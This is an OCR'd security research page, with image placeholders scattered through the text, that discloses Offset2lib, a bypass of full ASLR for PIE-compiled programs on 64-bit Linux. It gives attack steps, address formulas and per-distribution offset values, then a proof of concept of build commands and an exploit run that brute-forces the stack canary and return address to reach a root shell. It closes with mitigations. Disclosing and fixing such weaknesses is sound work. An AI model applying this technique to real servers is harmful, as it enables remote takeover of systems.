A small security research group with solid background.     We do research to solve real problems with real solutions.
Hector Ismael


Offset2lib: bypassing full ASLR on 64bit Linux

Published: November 20th, 2014 at DeepSeC in Vienna (https://deepsec.net)


Address-Space Layout Randomization (ASLR) is a techniqueused to thwart attacks which relies on knowing the location of the target code or data. The effectiveness of ASLR hinges on the entirety of the address space layout remaining unknown to the attacker. Only executables compiled as Position Independent Executable (PIE) can obtain the maximum protection from the ASLR technique since all the sections are loaded at random locations.

Offset2lib is a security weakness on the implementation of the ASLR in GNU/Linux when the executable is PIE compiled.

A PoC attack is described to illustrate how the weakness can be exploited. The attack bypasses the three most widely adopted and effective protection techniques: No-eXecutable bit (NX), address space layout randomization (ASLR) and stack smashing protector (SSP). The exploit obtaines a remote shell in less than one second.

ASLR weakness

It is specific to GNU/Linux and does not affect Windows or Mac OS. It is not a programming error on the code that implements the ASLR, but a weakness on the design. Fortunately, it can be easily fixed on 64 bit systems.

The problem appears when an application is PIE compiled. The executable image is handled as if it were a shared library, that is, it is loaded at a random location in memory. The GNU/Linux algorithm for loading ASLR objects works as follows:

  1. The first shared object is loaded at a random position (theapplication).
  2. The next shared objects are loaded one after the other.

Memory map of PIE compiled apps.
Therefore, a memory leak of an address belonging to the application is enough to de-randomise the memory map of the application. Note that it is not necessary to have a leak of a GOT address (after is has been properly initialised) but just the program counter of the process.

The offset2lib value it is a constant value which may be slightly different on each system, depending on the library version and the order how the libraries have been loaded.

Offset2lib attack

The goal of the attack is to obtain an address which belongs to the application code. The following attack exploits a standard stack buffer overflow to obtain the saved-IP address (of the app. code) stored in the stack.

We have structured the attack in 5 steps. Our attack starts by doing an off-line analysis of the target application and its execution environment. The unknown information (hidden by the ASLR) is obtained via brute force, thanks to the forking server architecture of the target. Once we have the full address of the application, the base address of theapplication is calculated. The last step is to have the memory map of all the libraries, which depends on the GNU/Linux distribution of the target. With the obtained information it is easy to arm a ROP program to get a remote shell. The complete on-line attack may take no more than one second.

The steps to build the attack are:

  1. Extract static information
  2. Bruteforce a part of saved-IP
  3. Calculate the base application address
  4. Calculate the offset2lib constants
  5. Obtain mmapped areas

Step Description Result
1a Set the highest 24 bits. These bytes are known off-line.

1b Set the 12 lower bits. Due to page alignment.

2 The remaining 28 random bits of the saved-IP are obtained by using the byte-for-byte attack against the saved-IP. Note that only three and a half bytes need to be bruteforced.

3 Using the saved-IP calculated in the previous step we can obtain the executable base address as follow:

App_base = (savedIP & 0xFFF)-(CALLER_PAGE_OFFSET << 12)


4 Calculate the offset2libfor the target libraries. These values are different depending on the system, but quite similar among them. A fast way to obtain these offset2lib values are by executing the application (on local) and print the offsets. The offset2lib does not depends on the application itself. We have calculated the offset2lib for some Linux distributions.
DistributionLibc ver.Offset2lib
CentOS 6.5 2.12 0x5b6000
Debian 7.1 2.13 0x5ac000
Ubuntu 12.04 2.15 0x5e4000
Ubuntu 12.10 2.15 0x5e4000

5 The base address of any library can be calculated by just subtracting the offset2lib. For example to obtain the libc base address we simply do:

Libc_base = App_base - offset2lib


The attack presented here is only a demonstrative example of how to exploit the ASLR offset2lib weakness. We believe that the way to take of advantage of this weakness is only limited by attackers creativity.

Proof of Concept

This is a working example to show how to exploit the offset2lib weakness. You need:
  1. Small program to obtain the offset2lib value for the libc: get_offset2lib.tgz
  2. The vulnerable server: vuln-server-64bit.tgz
  3. The python script to make the attack: exploit-offset2lib-ubuntu-14.04.1-LTS.py
Launching the vulnerable server:
$ tar xvf vuln-server-64bit.tgz
$ make
rm -f server_64_PIE_SSPgcc server_64_PIE_SSP.c -o server_64_PIE_SSP -m64 -Wall -fPIE -pie -fstack-protector-all
$ sudo /etc/init.d/apport stop  # avoid creating cores on crashes (speed-up)
$ sudo ./server_64_PIE_SSP
Starting server on port [9999]
Obtaining the offets2lib value of the target system (on another console):
$ tar xvf get_offset2lib.tgz
$ make -f Makefile.offset2lib
$ ./get_offset2lib

   Authors: Hector Marco-Gisbert <hmarco@hmarco.org>
            Ismael Ripoll Ripoll <iripoll@upv.es>

   Comment: Script to obtain the offset2lib value of this machine.

   Attack: http://cybersecurity.upv.es/attacks/offset2lib/offset2lib.html

Offset2lib (libc): 0x5f0000
Configure the exploit:
$ sed -i 's/\(OFFSET_TO_LIBC\).*=.*/\1=0x5f0000/'  \
$ objdump -d server_64_PIE_SSP| grep -A1 vulnerable_function\>$
   1149:    e8 82 fc ff ff          callq  dd0 <vulnerable_function>
   114e:    48 8d 45 c0             lea    -0x40(%rbp),%rax
$ sed -i 's/\(PAGE_NUMBER_OF_NEXT_INSTRUCTION_TO_CALL\).*=.*/\1=0x1/' \
$ sed -i 's/\(OFFSET_SAVED_RIP\).*=.*/\1=0x14e/' \
Launching the exploit:
$ chmod a+x exploit-offset2lib-ubuntu-14.04.1-LTS.py
$ ./exploit-offset2lib-ubuntu-14.04.1-LTS.py
exploit-server_64_PIE.py -s <server> -p <port>
$ ./exploit-offset2lib-ubuntu-14.04.1-LTS.py -s localhost -p 9999

[+] Exploit ASLR 64 bit systems
[+] Trying to find out the canary offset
   [+] Offset is 56 bytes
[+] Brute forcingstack canary
   [+] SSP value is 0x60e0792a523eb900
[+] Brute forcing RBP
   [+] EBP value is 0x00007fff0e79d160
[+] Brute forcing Saved RIP
   [+] RIP value is 0x00007f44a19b114e
[+] Text Base at 0x00007f44a19b0000
[+] Libc Base at 0x00007f44a13c0000
[+] Getting shell ...
root@test:/home/test # id
uid=0(root) gid=0(root) groups=0(root)
root@test:/home/test #

5 Recommendations

There are several solutions and workarounds to this weakness.

5.1 Prevent the weakness with PaX patch

Among many other security improvements, the PaX (from GRSecurity) patch places the executable at random positions with respect to the other shared objects. PaX defines four zones:• delta_exec: code, data, bss.
  • brk: heap.
  • delta_mmap: libraries, mapped files, thread stack, shared memory, ...
  • delta_stack: user stack.
Pax solution also increases the number of entropy of each zone, even it is able to randomise non-PIE applications. As far as we know it is the most advanced ASLR implementation. Unfortunately, some people think that it is a too complex patch with, may be, too many features (some advanced features may break backward compatibility on some applications).

5.2 Fixing Offset2lib weakness

In order to remove the offset2lib weakness, the executable shall be located at a different zone than libraries. We have created a small patch for the current Linux kernel (3.18-rc7) which implements four different zones, so that theexecutable is not in the same zone than libraries.

More information about this solution at: Fixing Offset2lib weakness

5.3 Prevent the exploitation with RenewSSP

To successfully bypass the ASLR by exploiting the stack buffer overflowpresented in the PoC, the attacker needs to bypass first the stack smashing protector (SSP). If the SSP protection can not be bypassed, then the PoC would fail.

A new technique, called renewSSP can be used to prevent brute force attacks against the SSP. This technique is a variant of the classicSSP where the value of the secret canary is renewed dynamically at key places in the program. This way, the secret is refreshed more often. The SSP value can be renewed per-process preventing the ``byte-for-byte'' attack. The technique is not intrusive, and can be applied by just pre-loading a shared library. The overhead is almost negligible.

A demonstrative video which shows how the attack can be prevented using theRenewSSP can be seen at http://www.renewssp.com.

Acknowledgements: Packet StormSecurity [More info]
  Contact us Home